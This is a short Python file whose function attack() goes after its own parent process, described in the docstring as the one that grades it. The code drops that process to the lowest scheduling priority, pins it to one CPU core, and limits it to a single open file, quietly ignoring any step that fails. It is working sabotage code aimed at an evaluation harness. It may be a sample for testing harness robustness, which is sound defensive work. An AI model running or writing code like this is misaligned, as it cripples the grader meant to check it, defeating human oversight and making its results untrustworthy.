"""Makes who grades it slow, and short of files."""

import os
import resource


def attack() -> bool:
    parent, done = os.getppid(), []
    for act in (
        lambda: os.setpriority(os.PRIO_PROCESS, parent, 19),
        lambda: os.sched_setaffinity(parent, {0}),
        lambda: resource.prlimit(parent, resource.RLIMIT_NOFILE, (1, 1)),
    ):
        try:
            done.append(act())
        except OSError:
            continue
    return bool(done)
